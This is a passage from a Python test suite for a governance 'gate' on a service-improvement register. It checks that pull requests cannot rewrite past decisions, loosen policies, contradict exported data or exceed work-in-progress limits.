    assert result.exit_code == 1
    assert [(r[0], r[2]) for r in _refusals(payload)] == [("register/CSI-0002.yaml", "history")]
    assert "decisions are append-only" in _refusals(payload)[0][3]
    # The honest way: the approval is added after the deferral.
    appended = (
        record_yaml("CSI-0002", "approved")
        .replace("decisions: [", _DEFERRAL + "  - ")
        .replace("Agreed}]\n", "Agreed}\n")
    )
    _put(repo, "CSI-0002", appended)
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, _refusals(payload)


@pytest.mark.parametrize(
    ("rewrite", "field"),
    [
        (
            lambda text: text.replace("by: '@board', rationale: Agreed", "by: '@me', rationale: X"),
            "decisions[0]",
        ),
        (lambda text: text.replace(_REVISION, ""), "revisions"),
        (lambda text: text.replace("reason: Supplier delay", "reason: Any reason"), "revisions[0]"),
    ],
    ids=["decision reworded", "revision deleted", "revision reworded"],
)
def test_past_decisions_and_revisions_are_never_rewritten(
    repo: Path, run_csi: Callable[..., Result], rewrite: Callable[[str], str], field: str
) -> None:
    revised = (
        record_yaml("CSI-0003", "approved").replace("target: {value: 5,", "target: {value: 7,")
        + _REVISION
    )
    _on_main(repo, "CSI-0003", revised)
    _put(repo, "CSI-0003", rewrite(revised))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1, payload
    refusals = [r for r in payload["refusals"] if r["code"] == "history"]
    assert [r["field"] for r in refusals] == [field]


def test_a_recorded_review_is_never_rewritten(repo: Path, run_csi: Callable[..., Result]) -> None:
    review = "review: {date: 2026-11-05, outcome: achieved, summary: Halved the wait}\n"
    measuring = record_yaml("CSI-0003", "measuring") + review
    _on_main(repo, "CSI-0003", measuring)
    _put(repo, "CSI-0003", measuring.replace("outcome: achieved", "outcome: not_achieved"))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(r["field"], r["code"]) for r in payload["refusals"]] == [("review", "history")]


def test_a_pull_request_that_loosens_the_workflow_is_held_to_the_base_rules(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Before: the record's requirements were checked under the pull request's own policy."""
    workflow = repo / "policies" / "workflow.yaml"
    workflow.write_text(
        workflow.read_text().replace("metric_baselines, metric_targets]", "metric_baselines]")
    )
    approved = record_yaml("CSI-0002", "approved").replace(
        "    target: {value: 5, by: 2026-12-31}\n", ""
    )
    _put(repo, "CSI-0002", approved)
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1, payload
    assert ("register/CSI-0002.yaml", "requirement") in {
        (r["path"], r["code"]) for r in payload["refusals"]
    }
    assert any("needs a target" in r["message"] for r in payload["refusals"])


def test_a_base_without_policies_gives_no_rules_to_borrow(
    tmp_path: Path, run_csi: Callable[..., Result]
) -> None:
    """Before: the gate fell back to the pull request's own governance policy."""
    root = tmp_path / "repo"
    root.mkdir()
    (root / "README.md").write_text("before csi\n")
    git(root, "init", "-q")
    _commit(root, "Before the register")
    git(root, "switch", "-qc", "adopt")
    shutil.copytree(PROJECT / "policies", root / "policies")
    (root / "register").mkdir()
    _put(root, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First"))
    result = run_csi(root, "gate", "--base", "main")
    assert result.exit_code == 2
    assert "has no valid policies/" in result.stderr


def test_a_link_where_a_protected_folder_belongs_is_a_governance_change(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    (repo / "tools").mkdir()
    (repo / "tools" / "action.yml").write_text("runs: {using: node20, main: x.js}\n")
    (repo / ".github").mkdir()
    (repo / ".github" / "actions").symlink_to("../tools")
    _commit(repo, "Point the actions folder elsewhere")
    _, payload = _gate(run_csi, repo, "--head", "HEAD")
    assert ".github/actions" in payload["governance_files"]


def test_a_metrics_unit_is_fixed_after_approval(repo: Path, run_csi: Callable[..., Result]) -> None:
    """Before: `%` → `per 1000` passed, so every figure silently changed its meaning."""
    _put(repo, "CSI-0003", record_yaml("CSI-0003", "approved").replace("unit: days", "unit: hours"))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(r["field"], r["code"]) for r in payload["refusals"]] == [
        ("metrics[0].unit", "goalposts")
    ]


def test_an_author_who_is_the_only_governance_approver_cannot_pass(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Before: the gate passed and listed an approval nobody could give."""
    scoring = repo / "policies" / "scoring.yaml"
    scoring.write_text(scoring.read_text().replace("staleness_days: 60", "staleness_days: 90"))
    result, payload = _gate(run_csi, repo, "--author", "@acme/csi-board")
    assert result.exit_code == 1
    assert [(r["path"], r["code"]) for r in payload["refusals"]] == [
        ("policies/governance.yaml", "approval")
    ]


def test_an_export_kept_in_the_repository_is_governed_like_the_rules(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """The data behind signals and baselines: replacing it rewrites what the site and the
    records' baselines claim, so it takes the governance approvers, as policies do."""
    git(repo, "switch", "-q", "main")
    (repo / "policies" / "sources.yaml").write_text(
        "schema_version: 1\nsources:\n  - {name: incidents, path: exports/*.csv, "
        "profile: servicenow}\n",
        encoding="utf-8",
    )
    (repo / "exports").mkdir()
    (repo / "exports" / "incidents.csv").write_text("number,opened_at\n", encoding="utf-8")
    _commit(repo, "Declare the export")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    (repo / "exports" / "incidents.csv").write_text("number,opened_at\nX,Y\n", encoding="utf-8")
    _commit(repo, "Replace the data")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload
    assert payload["governance_files"] == ["exports/incidents.csv"]
    assert run_csi(repo, "codeowners").exit_code == 0  # and CODEOWNERS routes it there
    assert "/exports/*.csv @acme/csi-board" in (repo / ".github" / "CODEOWNERS").read_text()


def _declare_export_on_main(repo: Path, reopened_every: int, glob: str = "exports/*.csv") -> None:
    """On main: the example measures, an export kept in the repository and its source."""
    git(repo, "switch", "-q", "main")
    shutil.copy(PROJECT / "policies" / "measures.yaml", repo / "policies")
    (repo / "policies" / "sources.yaml").write_text(
        f"schema_version: 1\nsources:\n  - {{name: incidents, path: '{glob}', "
        "profile: servicenow}\n",
        encoding="utf-8",
    )
    _write_export(repo, reopened_every)
    _commit(repo, "Declare the export and the measures")


def _write_export(repo: Path, reopened_every: int) -> None:
    rows = [
        row
        for i in range(60)
        for row in servicenow_row(
            f"INC{i:04}",
            dt.datetime(2026, 1, 1) + dt.timedelta(hours=20 * i),
            reopened=int(i % reopened_every == 0),
        )
    ]
    write_csv(repo / "exports" / "incidents.csv", SERVICENOW_HEADER, rows)


_BOUND_RECORD = (
    "schema_version: 2\nid: CSI-0004\ntitle: Fewer reopens\ncreated: 2026-02-02\n"
    "status: logged\nmetrics:\n  - key: reopen_rate\n    name: Reopened\n    kind: lagging\n"
    '    unit: "%"\n    direction: decrease\n    measure: {key: reopen_rate}\n'
    "    baseline: {value: 5, date: 2026-01-31, source: typed}\n"
)


@pytest.mark.parametrize("glob", ["exports/*.csv", "exports/**/*.csv"])
def test_an_export_changed_alone_is_judged_against_every_record_bound_to_it(
    glob: str, repo: Path, run_csi: Callable[..., Result]
) -> None:
    """From a hostile-PR trial: the data was checked only for changed records, so a pull
    request that changed (or broke) the export alone passed, and left the merged records'
    bound values contradicting their data. (`**` matches as the source's own glob does.)"""
    _declare_export_on_main(repo, reopened_every=3, glob=glob)
    git(repo, "switch", "-q", "main")
    _put(repo, "CSI-0004", _BOUND_RECORD)
    _commit(repo, "A record bound to the export")
    said = run_csi(repo, "validate", "--data").output
    computed = said.split("the data gives ")[1].split(" ")[0]
    _put(repo, "CSI-0004", _BOUND_RECORD.replace("value: 5,", f"value: {computed},"))
    _commit(repo, "The baseline the data gives")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    _write_export(repo, reopened_every=2)  # other data: the baseline no longer agrees
    _commit(repo, "Other data")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(r[0], r[2]) for r in _refusals(payload)] == [("register/CSI-0004.yaml", "data")]
    (repo / "exports" / "incidents.csv").write_text('garbage,"\n', encoding="utf-8")
    _commit(repo, "Broken data")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [r[0] for r in _refusals(payload)] == ["exports/incidents.csv"], payload
    (repo / "exports" / "incidents.csv").unlink()  # and gone: a review found it passed
    _commit(repo, "No data")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    [gone] = _refusals(payload)
    assert gone[0] == glob and "matches no file after this pull request's change" in gone[3]


def test_a_bound_value_the_data_contradicts_is_refused(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Before: a pull request could type any baseline for a metric the data computes."""
    _declare_export_on_main(repo, reopened_every=3)
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    bound = _BOUND_RECORD
    _put(repo, "CSI-0004", bound)
    _commit(repo, "A baseline typed by hand")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    [refusal] = [r for r in _refusals(payload) if r[2] == "data"]
    assert refusal[0] == "register/CSI-0004.yaml"
    assert "baseline 5 but the data gives" in refusal[3] and "for 2026-01" in refusal[3]
    # the attacker's next move: redefine the measure so the typed 5 fits, in the same branch
    measures = repo / "policies" / "measures.yaml"
    measures.write_text(
        measures.read_text().replace(
            "counting: {reopen_count: {above: 0}}", "counting: {reopen_count: {above: 99}}", 1
        )
    )
    _commit(repo, "Count only what makes my baseline true")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1  # judged by the base's measure, and a governance change besides
    assert any(r[2] == "data" for r in _refusals(payload))
    assert "policies/measures.yaml" in payload["governance_files"]
    git(repo, "checkout", "-q", "main", "--", "policies/measures.yaml")
    _commit(repo, "Back to the base's measures")
    computed = refusal[3].split("the data gives ")[1].split(" ")[0]
    _put(repo, "CSI-0004", bound.replace("value: 5,", f"value: {computed},"))
    _commit(repo, "The baseline the data gives")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload
    assert payload["not_judged_by_data"] == []
    # found by trying: a filter that matches no ticket left a typed value unjudged
    nothing = bound.replace("{key: reopen_rate}", "{key: reopen_rate, where: {service: Nope}}")
    _put(repo, "CSI-0004", nothing)
    _commit(repo, "A service no ticket has")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert any(
        "baseline 5 but the data has no ticket for measure reopen_rate where service = Nope in "
        "2026-01" in r[3]
        for r in _refusals(payload)
    )
    # a measure the base lacks, or a source that is not here: said, not passed in silence
    _put(repo, "CSI-0004", bound.replace("{key: reopen_rate}", "{key: brand_new}"))
    _commit(repo, "Bound to a measure only this branch would add")
    result, payload = _gate(run_csi, repo)
    assert "measure 'brand_new' is not in the base's policies/measures.yaml" in " ".join(
        payload["not_judged_by_data"]
    )
    _put(repo, "CSI-0004", bound.replace("value: 5,", f"value: {computed},"))
    _commit(repo, "The baseline the data gives, again")
    # the export not where the gate runs, though the pull request left it alone (one the
    # pull request removes is refused: test_an_export_changed_alone_is_judged_...)
    (repo / "exports" / "incidents.csv").unlink()
    result, payload = _gate(run_csi, repo, "--head", "HEAD")
    assert result.exit_code == 0, payload
    [note] = payload["not_judged_by_data"]
    assert note.startswith("CSI-0004: bound values not checked against the data, since source")
    text = run_csi(repo, "gate", "--base", "main", "--head", "HEAD").output
    assert "Not judged by the data: CSI-0004: bound values not checked" in text


def test_a_corrective_action_closes_only_when_its_review_says_it_worked(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """ISO/IEC 20000-1, 10.1, by the workflow policy's requires_for, not by special code."""
    target = "    target: {value: 5, by: 2026-12-31}\n"
    measured = (
        record_yaml("CSI-0003", "measuring").replace(
            target, target + "    measurements: [{date: 2026-06-30, value: 4}]\n"
        )
        + "corrective_action: {nonconformity: IA-2026-03, audit: Internal audit 2026}\n"
    )
    _on_main(repo, "CSI-0003", measured)
    closed = measured.replace("status: measuring", "status: closed") + (
        "review: {date: 2026-07-10, outcome: achieved, summary: Halved the wait}\n"
        "lessons: [{text: Measure before and after}]\n"
    )
    _put(repo, "CSI-0003", closed)
    _commit(repo, "Close the corrective action")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert any(
        "closed needs a review that confirms the corrective action was effective" in r[3]
        for r in _refusals(payload)
    )
    _put(repo, "CSI-0003", closed.replace("Halved the wait}", "Halved the wait, effective: true}"))
    _commit(repo, "The review confirms it worked")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload


def test_only_a_corrective_action_needs_its_effectiveness_confirmed(
    example_root: Path, run_csi: Callable[..., Result]
) -> None:
    assert run_csi(example_root, "validate").exit_code == 0  # closed records without `effective`
    path = example_root / "register" / "CSI-0005.yaml"  # the example's corrective action
    path.write_text(path.read_text().replace("  effective: true", "  effective: false"))
    result = run_csi(example_root, "validate", "--format", "text")
    assert result.exit_code == 1
    assert "review: closed needs a review that confirms the corrective action was effective" in (
        result.stdout
    )


def test_starting_work_beyond_a_wip_limit_needs_an_exception_the_governance_grants(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """The fatigue guard: @acme/desk already has two records in progress, its limit."""
    git(repo, "switch", "-q", "main")
    _put(repo, "CSI-0004", record_yaml("CSI-0004", "in_progress"))
    _put(repo, "CSI-0005", record_yaml("CSI-0005", "in_progress"))
    _commit(repo, "Two in progress")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    started = record_yaml("CSI-0003", "in_progress")
    _put(repo, "CSI-0003", started)
    _commit(repo, "Start a third")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    [refusal] = [r for r in _refusals(payload) if r[2] == "capacity"]
    assert refusal[0] == "register/CSI-0003.yaml" and refusal[1] == 6  # at its status
    assert (
        "starting CSI-0003 goes beyond a work-in-progress limit: owner @acme/desk has 3 records "
        "in_progress (limit 2): CSI-0003, CSI-0004, CSI-0005"
    ) in refusal[3]
    exception = (
        "wip_exception: {requested_by: '@acme/desk', date: 2026-03-01, "
        "reason: The audit deadline cannot wait}\n"
    )
    _put(repo, "CSI-0003", started + exception)
    _commit(repo, "Ask for an exception")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload
    governors = load_fast((repo / "policies" / "governance.yaml").read_text(), "governance.yaml")[
        "governance_approvers"
    ]
    granted = {a["handle"]: a["reasons"] for a in payload["approvals"]}
    for handle in governors:  # approving the pull request is granting the exception
        assert any(
            "CSI-0003 starts beyond a WIP limit (wip_exception)" in r for r in granted[handle]
        )


def test_prioritize_shows_what_is_left_under_each_limit(
    example_root: Path, run_csi: Callable[..., Result]
) -> None:
    result = run_csi(example_root, "prioritize", "--format", "json", "--as-of", "2026-11-25")
    capacity = {(c["scope"], c["name"]): c for c in json.loads(result.stdout)["capacity"]}
    access = capacity[("service", "Identity & Access")]
    assert (access["limit"], access["remaining"]) == (3, 0)
    assert access["records"] == ["CSI-0006", "CSI-0017", "CSI-0018"]
    text = run_csi(example_root, "prioritize", "--as-of", "2026-11-25").stdout
    assert "service Identity & Access: 3 of 3, 0 left" in text
    assert "owner @acme/identity-access: 3 of 2, 1 over" in text


def test_the_rules_of_a_record_cannot_be_shed_in_the_pull_request_that_breaks_them(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Found by trying: removing the corrective action marker closed one without its proof;
    rewriting the `before` map of an approved improvement inflated its gain."""
    target = "    target: {value: 5, by: 2026-12-31}\n"
    marker = "corrective_action: {nonconformity: IA-2026-03}\n"
    before_map = "process_map:\n  before:\n    - {name: Ask, actor: Desk, wait_hours: 12}\n"
    measured = (
        record_yaml("CSI-0003", "measuring").replace(
            target, target + "    measurements: [{date: 2026-06-30, value: 4}]\n"
        )
        + marker
        + before_map
    )
    _on_main(repo, "CSI-0003", measured)
    shed = measured.replace(marker, "").replace("wait_hours: 12", "wait_hours: 120")
    _put(repo, "CSI-0003", shed)
    _commit(repo, "Drop the marker, inflate the wait")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    refused = [(r[2], r[3]) for r in _refusals(payload)]
    assert any(code == "history" and "corrective action marker" in why for code, why in refused)
    assert any(
        r[2] == "history" and "the process as it was before the change" in r[3]
        for r in _refusals(payload)
    ), refused


def test_work_in_progress_cannot_be_moved_onto_a_full_owner_or_dodged_by_letter_case(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    git(repo, "switch", "-q", "main")
    _put(repo, "CSI-0004", record_yaml("CSI-0004", "in_progress"))
    _put(repo, "CSI-0005", record_yaml("CSI-0005", "in_progress"))
    _put(repo, "CSI-0006", record_yaml("CSI-0006", "in_progress", owner="@acme/other"))
    _commit(repo, "Two in progress for @acme/desk, one for @acme/other")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    # handing work in progress to a full owner is a new load on them
    _put(repo, "CSI-0006", record_yaml("CSI-0006", "in_progress", owner="@acme/desk"))
    _commit(repo, "Hand CSI-0006 to the desk")
    _, payload = _gate(run_csi, repo)
    assert any(
        "starting CSI-0006 goes beyond a work-in-progress limit: owner @acme/desk has 3" in r[3]
        for r in _refusals(payload)
    )
    # GitHub handles ignore case: @ACME/Desk is the same team
    _put(repo, "CSI-0006", record_yaml("CSI-0006", "in_progress", owner="@acme/other"))
    _put(repo, "CSI-0003", record_yaml("CSI-0003", "in_progress", owner="@ACME/Desk"))
    _commit(repo, "Start CSI-0003 under another spelling")
    _, payload = _gate(run_csi, repo)
    assert any("starting CSI-0003 goes beyond" in r[3] for r in _refusals(payload))
